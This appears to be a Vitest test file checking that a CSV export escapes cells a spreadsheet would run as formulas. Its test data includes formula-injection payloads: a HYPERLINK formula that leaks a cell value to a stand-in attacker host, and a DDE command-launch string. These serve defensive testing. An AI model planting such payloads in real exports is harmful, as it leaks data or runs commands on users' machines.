import { beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Library } from '../../src/lib/content/library';
import { renderExport } from '../../src/lib/exports';
import { clientRun, loadFixtureLibrary } from './helpers/fixture-library';

let library: Library;
beforeAll(async () => {
  library = await loadFixtureLibrary();
});

/** The run's CSV with the first task renamed, read back as a spreadsheet would: numbers become numbers. */
function firstCell(task: string): unknown {
  const run = clientRun(library, 'acme');
  run.items[0]!.task = task;
  const text = renderExport(run, 'csv', { locale: 'en-US', runUrl: 'https://offboarding.example.com/clients/acme/', timestamp: 0 });
  return (parseCsv(text, { bom: true, cast: true }) as unknown[][])[1]![0];
}

describe('CSV cells that a spreadsheet would run as a formula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example.com/?leak="&A2,"Click me")'],
    ['=1+1'],
    ['+1+1'],
    ['-1+1'],
    ['-2+3 is the maths'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['=cmd|" /C calc"!A0'],
  ])('%j is written as text, behind a single quote', (task) => {
    expect(firstCell(task)).toBe(`'${task}`);
  });
});

describe('ordinary CSV cells', () => {
  it.each([
    ['Send the final invoice', 'Send the final invoice'],
    ['a = b, said the contract', 'a = b, said the contract'],
    ["'Quoted' already", "'Quoted' already"],
    ['2027-01-29', '2027-01-29'],
    // A plain number is a number, whatever its sign: a spreadsheet reads it as one and runs nothing.
    ['-10', -10],
    ['-10.50', -10.5],
    ['42', 42],
  ])('%j is left as it is', (task, expected) => {
    expect(firstCell(task)).toBe(expected);
  });
});
